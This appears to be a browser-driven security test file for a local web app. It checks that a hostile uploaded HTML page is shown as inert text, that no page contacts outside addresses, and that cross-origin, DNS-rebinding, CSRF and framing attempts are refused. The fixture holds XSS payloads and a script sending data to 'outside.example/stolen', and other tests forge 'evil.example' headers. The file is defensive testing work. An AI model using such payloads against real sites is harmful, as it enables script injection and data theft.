import { createServer, request as rawRequest } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Page } from '@playwright/test'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { localOwner } from '../../src/access/viewer.ts'
import { launchBrowser } from '../support/browser.ts'
import { type Served, serve, twoReports } from '../support/served.ts'

const hostile = `<!doctype html><html><head><title>Hostile</title>
<script>window.ran = true; fetch('http://outside.example/stolen')</script></head>
<body onload="window.ran = true">
<p>Three persons were killed on March 3, 2021 &lt;script&gt;window.ran = true&lt;/script&gt; and
&lt;img src=x onerror="window.ran = true"&gt; five were injured.</p>
<img src="http://outside.example/pixel.png" onerror="window.ran = true">
<iframe src="http://outside.example/"></iframe>
<a href="javascript:window.ran = true">press</a>
</body></html>`

let served: Served
let browser: Browser

beforeAll(async () => {
  served = await serve({ ...twoReports, 'hostile.html': hostile })
})

// Before each, so that without a browser every test fails and none is skipped.
beforeEach(async () => {
  browser ??= await launchBrowser()
})

afterAll(async () => {
  await browser?.close()
  await served?.close()
})

const pagePaths = async (): Promise<readonly string[]> => {
  const sources = (await (await fetch(`${served.url}/api/sources`)).json()) as { id: string }[]
  return [
    '/',
    '/sources',
    ...sources.map(({ id }) => `/sources/${id}`),
    '/claims',
    '/people',
    '/people/pairs',
    '/chronology',
    '/tallies',
    '/findings',
    '/search?q=persons',
    '/ledger',
    '/add',
    '/nothing-here',
  ]
}

/** Opens a page and waits until it has what it asked for. */
const visit = async (page: Page, path: string): Promise<void> => {
  await page.goto(`${served.url}${path}`)
  await page.locator('h1').first().waitFor()
  await page.waitForTimeout(200)
}

describe('what leaves this machine', () => {
  it('no page asks anything of any other address, nor breaks its own policy', async () => {
    const context = await browser.newContext()
    const asked = new Set<string>()
    const complaints: string[] = []
    context.on('request', (request) => asked.add(new URL(request.url()).origin))
    context.on('console', (message) => {
      if (message.type() === 'error') complaints.push(message.text())
    })
    const page = await context.newPage()
    for (const path of await pagePaths()) await visit(page, path)
    expect([...asked]).toEqual([served.url])
    expect(complaints).toEqual([])
    await context.close()
  })
})

describe('a hostile page as a source', () => {
  it('is shown as text and runs nothing', async () => {
    const page = await browser.newPage()
    const sources = (await (await fetch(`${served.url}/api/sources`)).json()) as {
      id: string
      fileName: string
    }[]
    const source = sources.find(({ fileName }) => fileName === 'hostile.html')
    await visit(page, `/sources/${source?.id}`)
    const words = await page.locator('.document').textContent()
    expect(words).toContain('<script>window.ran = true</script>')
    expect(words).toContain('<img src=x onerror="window.ran = true">')
    expect(await page.locator('.document img, .document script, .document iframe').count()).toBe(0)
    expect(await page.evaluate(`'ran' in window`)).toBe(false)
    await visit(page, '/search?q=persons killed')
    expect(await page.evaluate(`'ran' in window`)).toBe(false)
    await page.close()
  })
})

interface Asked {
  readonly method?: string
  readonly path?: string
  readonly headers: Readonly<Record<string, string>>
  readonly body?: string
}

/** A request with exactly these headers, as no browser would send it. */
const ask = ({ method = 'GET', path = '/api/sources', headers, body }: Asked): Promise<number> =>
  new Promise((resolve, reject) => {
    const sent = rawRequest(
      { host: '127.0.0.1', port: served.port, method, path, headers, setHost: false },
      (response) => {
        response.resume()
        resolve(response.statusCode ?? 0)
      },
    )
    sent.on('error', reject)
    sent.end(body)
  })

describe('a web page elsewhere', () => {
  it('is refused whatever it claims to be', async () => {
    const host = `127.0.0.1:${served.port}`
    const change = { method: 'POST', path: '/api/cases', body: '{"name":"x"}' }
    const json = { 'content-type': 'application/json', 'x-daftar-request': '1' }
    expect(await ask({ headers: { host } })).toBe(200)
    expect(await ask({ headers: { host: 'evil.example' } })).toBe(421)
    expect(await ask({ headers: { host: `evil.example:${served.port}` } })).toBe(421)
    expect(await ask({ path: '/', headers: { host: 'evil.example' } })).toBe(421)
    expect(await ask({ headers: { host, origin: 'http://evil.example' } })).toBe(403)
    expect(await ask({ headers: { host, 'sec-fetch-site': 'cross-site' } })).toBe(403)
    expect(await ask({ path: '/api/changes', headers: { host, origin: 'null' } })).toBe(403)
    expect(
      await ask({ ...change, headers: { host, ...json, origin: 'http://evil.example' } }),
    ).toBe(403)
    expect(await ask({ ...change, headers: { host, 'content-type': 'application/json' } })).toBe(
      403,
    )
    expect((await served.app.cases(localOwner)).length).toBe(1)
  })

  it('can neither read nor change anything from a real browser', async () => {
    const before = await (await fetch(`${served.url}/api/ledger`)).json()
    const elsewhere = createServer((_request, response) => {
      response.setHeader('content-type', 'text/html')
      response.end(
        `<form method="post" action="${served.url}/api/cases"><input name="name" value="x"></form>`,
      )
    })
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve))
    const { port } = elsewhere.address() as AddressInfo
    const page = await browser.newPage()
    await page.goto(`http://127.0.0.1:${port}/`)
    const read = await page.evaluate(
      async (url) =>
        fetch(`${url}/api/sources`).then(
          async (response) => response.text(),
          () => 'refused',
        ),
      served.url,
    )
    expect(read).toBe('refused')
    const changed = await page.evaluate(
      async (url) =>
        fetch(`${url}/api/cases`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', 'x-daftar-request': '1' },
          body: '{"name":"x"}',
        }).then(
          () => 'sent',
          () => 'refused',
        ),
      served.url,
    )
    expect(changed).toBe('refused')
    const [answer] = await Promise.all([
      page.waitForNavigation(),
      page.evaluate(`document.querySelector('form').submit()`),
    ])
    expect(answer?.status()).toBe(403)
    await page.goto(`http://127.0.0.1:${port}/`)
    await page.evaluate(`{
      const frame = document.createElement('iframe')
      frame.src = '${served.url}'
      document.body.append(frame)
    }`)
    await page.waitForTimeout(500)
    expect(page.frames().map((frame) => frame.url())).toEqual([
      `http://127.0.0.1:${port}/`,
      'chrome-error://chromewebdata/',
    ])
    expect(await (await fetch(`${served.url}/api/ledger`)).json()).toEqual(before)
    await page.close()
    elsewhere.close()
  })
})
